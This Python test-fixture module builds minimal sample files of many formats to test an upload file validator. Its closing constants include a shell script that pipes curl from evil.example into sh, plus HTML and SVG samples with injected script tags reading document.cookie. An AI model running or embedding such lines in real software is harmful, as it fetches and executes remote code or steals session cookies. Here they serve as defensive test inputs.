"""Small but real files of every kind the files rule judges, built in memory."""
from __future__ import annotations

import datetime
import io
import json
import struct
import zipfile

from fpdf import FPDF
from PIL import Image

OOXML = "application/vnd.openxmlformats-officedocument."
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="{target}"/></Relationships>')


def pdf() -> bytes:
    """A one-page PDF, the same bytes at every call (fpdf2 would stamp the
    current second, and a test comparing a stored upload with a fresh sample
    failed whenever the second turned)."""
    doc = FPDF()
    doc.set_creation_date(datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC))
    doc.add_page()
    doc.set_font("helvetica", size=12)
    doc.cell(text="Community forest patrol handbook")
    return bytes(doc.output())


def image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "green").save(out, fmt)
    return out.getvalue()


def _ooxml(main_part: str, main_type: str, body: str,
           extra: dict[str, bytes] | None = None) -> bytes:
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        '</Types>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", _RELS.format(target=main_part))
        archive.writestr(main_part, body)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(**kw) -> bytes:
    return _ooxml(
        "word/document.xml", OOXML + "wordprocessingml.document.main+xml",
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
        '2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body>'
        '</w:document>', **kw)


def docm() -> bytes:
    return _ooxml(
        "word/document.xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "<w:document/>", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def xlsx() -> bytes:
    return _ooxml(
        "xl/workbook.xml", OOXML + "spreadsheetml.sheet.main+xml",
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        'main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>')


def pptx() -> bytes:
    return _ooxml(
        "ppt/presentation.xml", OOXML + "presentationml.presentation.main+xml",
        '<p:presentation xmlns:p="http://schemas.openxmlformats.org/'
        'presentationml/2006/main"/>')


def fake_docx() -> bytes:
    """Declares a Word document but has no document part: a plain ZIP."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml",
                         '<Types><Override PartName="/word/document.xml" '
                         f'ContentType="{OOXML}wordprocessingml.document.main+xml"/>'
                         '</Types>')
        archive.writestr("payload.txt", "not a document")
    return out.getvalue()


def odf(mime: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mime,
                         compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return out.getvalue()


def plain_zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (members or {"readme.txt": b"hello"}).items():
            archive.writestr(name, data)
    return out.getvalue()


def jar() -> bytes:
    return plain_zip(**{"META-INF/MANIFEST.MF": b"Main-Class: Evil\n",
                        "Evil.class": b"\xca\xfe\xba\xbe"})


def ole(streams: tuple[str, ...] = ("WordDocument",),
        storages: tuple[str, ...] = (), filler_sectors: int = 40) -> bytes:
    """A minimal OLE2 compound file (MS-CFB v3, 512-byte sectors).

    The first stream spans ``filler_sectors`` sectors, so the directory sits
    beyond the first 16 KB, as in real Office files.
    """
    assert filler_sectors <= 126, "one FAT sector maps 128 sectors"
    end, free, fat_sect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    fat_index, dir_index = filler_sectors, filler_sectors + 1
    fat = [i + 1 for i in range(filler_sectors - 1)] + [end, fat_sect, end]
    fat += [free] * (128 - len(fat))

    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x2C, 1, dir_index, 0, 4096, end, 0,
                     end, 0, fat_index)
    struct.pack_into("<108I", header, 0x50, *([free] * 108))

    names = [("Root Entry", 5)] + [(s, 2) for s in streams] + \
        [(s, 1) for s in storages]

    def entry(i: int, name: str, kind: int) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le")
        raw[0:len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 0x40, len(encoded) + 2, kind, 1)
        right = i + 1 if 0 < i < len(names) - 1 else nostream
        child = 1 if i == 0 and len(names) > 1 else nostream
        struct.pack_into("<III", raw, 0x44, nostream, right, child)
        start, size = (0, filler_sectors * 512) if i == 1 else (end, 0)
        struct.pack_into("<IQ", raw, 0x74, start, size)
        return bytes(raw)

    directory = b"".join(entry(i, n, k) for i, (n, k) in enumerate(names))
    directory += b"\x00" * (512 - len(directory))
    filler = (b"\xec\xa5\xc1\x00" + b"\x00" * 508) + b"\x00" * 512 * (
        filler_sectors - 1)
    return bytes(header) + filler + struct.pack("<128I", *fat) + directory


def mp3() -> bytes:
    frame = b"\xff\xfb\x90\x64" + b"\x00" * 413  # MPEG-1 layer III 128k 44.1k
    return b"ID3\x03\x00\x00\x00\x00\x00\x00" + frame * 4


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4() -> bytes:
    ftyp = _box(b"ftyp", b"isom" + struct.pack(">I", 0x200) + b"isomiso2avc1mp41")
    return ftyp + _box(b"free", b"") + _box(b"mdat", b"\x00" * 64)


def webm() -> bytes:
    def element(ident: bytes, data: bytes) -> bytes:
        return ident + bytes([0x80 | len(data)]) + data

    ebml = element(b"\x1a\x45\xdf\xa3", b"".join([
        element(b"\x42\x86", b"\x01"), element(b"\x42\xf7", b"\x01"),
        element(b"\x42\xf2", b"\x04"), element(b"\x42\xf3", b"\x08"),
        element(b"\x42\x82", b"webm"), element(b"\x42\x87", b"\x04"),
        element(b"\x42\x85", b"\x02")]))
    return ebml + b"\x18\x53\x80\x67\x01" + b"\x00" * 7


def csv() -> bytes:
    return ("province,schools,teachers\nកំពត,120,950\nKep,18,140\n"
            "Siem Reap,310,2400\n").encode()


def json_data(size: int = 0) -> bytes:
    rows = [{"province": "កំពត", "schools": 120}] * max(1, size // 40)
    return json.dumps({"rows": rows}, ensure_ascii=False).encode()


def windows_exe() -> bytes:
    exe = bytearray(1024)
    exe[0:2] = b"MZ"
    struct.pack_into("<I", exe, 0x3C, 0x80)
    exe[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<HH", exe, 0x84, 0x14C, 1)
    return bytes(exe)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 100


HTML = (b"<!DOCTYPE html><html><head><title>x</title></head><body>"
        b"<script>alert(document.cookie)</script></body></html>")
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
       b'width="10" height="10"><script>alert(1)</script></svg>')
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
